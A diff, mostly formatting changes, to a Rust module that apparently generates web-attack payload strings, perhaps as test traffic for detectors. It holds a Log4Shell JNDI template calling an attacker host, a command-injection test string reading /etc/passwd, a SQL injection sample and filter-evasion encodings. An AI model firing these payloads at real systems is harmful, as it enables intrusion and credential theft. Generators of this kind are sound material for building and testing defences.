@@ -6,7 +6,9 @@
 //! `{h}` six hex digits.
 
 use crate::rng::Rng;
-use crate::text::{push_form_encoded, push_minimal_encoded, push_percent_all, push_percent_u, push_u64};
+use crate::text::{
+    push_form_encoded, push_minimal_encoded, push_percent_all, push_percent_u, push_u64,
+};
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Sig {
@@ -115,7 +117,14 @@ pub const LOG4SHELL: &[&str] = &[
     "${jndi:ldap://{ip}:{p}/Basic/Command/Base64/{h}}",
 ];
 
-const TABLES: &[&str] = &["users", "admin", "accounts", "customers", "wp_users", "members"];
+const TABLES: &[&str] = &[
+    "users",
+    "admin",
+    "accounts",
+    "customers",
+    "wp_users",
+    "members",
+];
 const DOMAIN_WORDS: &[&str] = &["oast", "callbk", "x1", "pwn", "ldap-srv", "dnslog", "cb"];
 const TLDS: &[&str] = &["fun", "live", "site", "xyz", "top", "net"];
 
@@ -147,16 +156,16 @@ pub fn fill(template: &str, rng: &mut Rng, attacker: &str, out: &mut String) {
         match key {
             "{n}" => push_u64(out, rng.range(1, 9999)),
             "{s}" => push_u64(out, rng.range(2, 10)),
-            "{p}" => push_u64(out, *rng.pick(&[4444u64, 1337, 8080, 9001, 443, 53])),
-            "{t}" => out.push_str(*rng.pick(TABLES)),
+            "{p}" => push_u64(out, rng.pick(&[4444u64, 1337, 8080, 9001, 443, 53])),
+            "{t}" => out.push_str(rng.pick(TABLES)),
             "{h}" => push_hex(out, rng, 6),
             "{ip}" => out.push_str(attacker),
             "{d}" => {
                 push_hex(out, rng, 8);
                 out.push('.');
-                out.push_str(*rng.pick(DOMAIN_WORDS));
+                out.push_str(rng.pick(DOMAIN_WORDS));
                 out.push('.');
-                out.push_str(*rng.pick(TLDS));
+                out.push_str(rng.pick(TLDS));
             }
             // Not a placeholder (`${IFS}`, `${jndi:`): keep the brace.
             _ => {
@@ -190,7 +199,9 @@ pub enum Enc {
 pub fn encodings(sig: Sig) -> &'static [Enc] {
     use Enc::*;
     match sig {
-        Sig::Sqli => &[Plain, Percent, Double, Plus, MixedCase, SqlComment, PercentU],
+        Sig::Sqli => &[
+            Plain, Percent, Double, Plus, MixedCase, SqlComment, PercentU,
+        ],
         Sig::Xss => &[Plain, Percent, Double, Plus, MixedCase, Entities, PercentU],
         Sig::Traversal => &[Plain, Plain, Percent, Double, PercentU],
         Sig::Cmd => &[Plain, Percent, Double, Plus, PercentU],
@@ -199,7 +210,14 @@ pub fn encodings(sig: Sig) -> &'static [Enc] {
 }
 
 /// Encode `raw` for a request target. `scratch` is reused working space.
-pub fn encode(enc: Enc, raw: &str, keep_slash: bool, rng: &mut Rng, scratch: &mut String, out: &mut String) {
+pub fn encode(
+    enc: Enc,
+    raw: &str,
+    keep_slash: bool,
+    rng: &mut Rng,
+    scratch: &mut String,
+    out: &mut String,
+) {
     scratch.clear();
     match enc {
         Enc::Plain => push_minimal_encoded(out, raw),
@@ -231,10 +249,13 @@ pub fn encode(enc: Enc, raw: &str, keep_slash: bool, rng: &mut Rng, scratch: &mu
         }
         Enc::Entities => {
             for ch in raw.chars() {
-                if ch.is_ascii() && !ch.is_ascii_alphanumeric() && ch != ' ' || ch.is_ascii_alphabetic() && rng.chance(0.3) {
+                if ch.is_ascii() && !ch.is_ascii_alphanumeric() && ch != ' '
+                    || ch.is_ascii_alphabetic() && rng.chance(0.3)
+                {
                     scratch.push_str(if rng.chance(0.5) { "&#" } else { "&#x" });
                     if scratch.ends_with('x') {
-                        let _ = std::fmt::Write::write_fmt(scratch, format_args!("{:x};", ch as u32));
+                        let _ =
+                            std::fmt::Write::write_fmt(scratch, format_args!("{:x};", ch as u32));
                     } else {
                         push_u64(scratch, u64::from(ch as u32));
                         scratch.push(';');
@@ -267,12 +288,26 @@ mod tests {
     fn fill_replaces_only_placeholders() {
         let mut rng = Rng::new(1);
         let mut s = String::new();
-        fill(";${IFS}cat${IFS}/etc/passwd {ip}:{p}", &mut rng, "5.6.7.8", &mut s);
+        fill(
+            ";${IFS}cat${IFS}/etc/passwd {ip}:{p}",
+            &mut rng,
+            "5.6.7.8",
+            &mut s,
+        );
         assert!(s.starts_with(";${IFS}cat${IFS}/etc/passwd 5.6.7.8:"), "{s}");
         s.clear();
         fill("${jndi:ldap://{d}/a}", &mut rng, "x", &mut s);
-        assert!(s.starts_with("${jndi:ldap://") && s.ends_with("/a}") && !s.contains("{d}"), "{s}");
-        for sig in [Sig::Sqli, Sig::Xss, Sig::Traversal, Sig::Cmd, Sig::Log4shell] {
+        assert!(
+            s.starts_with("${jndi:ldap://") && s.ends_with("/a}") && !s.contains("{d}"),
+            "{s}"
+        );
+        for sig in [
+            Sig::Sqli,
+            Sig::Xss,
+            Sig::Traversal,
+            Sig::Cmd,
+            Sig::Log4shell,
+        ] {
             for t in templates(sig) {
                 s.clear();
                 fill(t, &mut rng, "1.2.3.4", &mut s);
@@ -288,19 +323,45 @@ mod tests {
         let mut rng = Rng::new(2);
         let mut scratch = String::new();
         let raw = "1' UNION SELECT a,b FROM users-- -#\n<x>";
-        for enc in [Enc::Plain, Enc::Percent, Enc::Double, Enc::Plus, Enc::MixedCase, Enc::Entities, Enc::SqlComment, Enc::PercentU] {
+        for enc in [
+            Enc::Plain,
+            Enc::Percent,
+            Enc::Double,
+            Enc::Plus,
+            Enc::MixedCase,
+            Enc::Entities,
+            Enc::SqlComment,
+            Enc::PercentU,
+        ] {
             let mut out = String::new();
             encode(enc, raw, false, &mut rng, &mut scratch, &mut out);
-            assert!(!out.contains(' ') && !out.contains('#') && !out.contains('\n'), "{enc:?}: {out}");
+            assert!(
+                !out.contains(' ') && !out.contains('#') && !out.contains('\n'),
+                "{enc:?}: {out}"
+            );
         }
         let mut out = String::new();
         encode(Enc::Double, "../", false, &mut rng, &mut scratch, &mut out);
         assert_eq!(out, "..%252F");
         out.clear();
-        encode(Enc::SqlComment, "1 OR 2", false, &mut rng, &mut scratch, &mut out);
+        encode(
+            Enc::SqlComment,
+            "1 OR 2",
+            false,
+            &mut rng,
+            &mut scratch,
+            &mut out,
+        );
         assert_eq!(out, "1/**/OR/**/2");
         out.clear();
-        encode(Enc::PercentU, "<a>", false, &mut rng, &mut scratch, &mut out);
+        encode(
+            Enc::PercentU,
+            "<a>",
+            false,
+            &mut rng,
+            &mut scratch,
+            &mut out,
+        );
         assert_eq!(out, "%u003Ca%u003E");
     }
 }
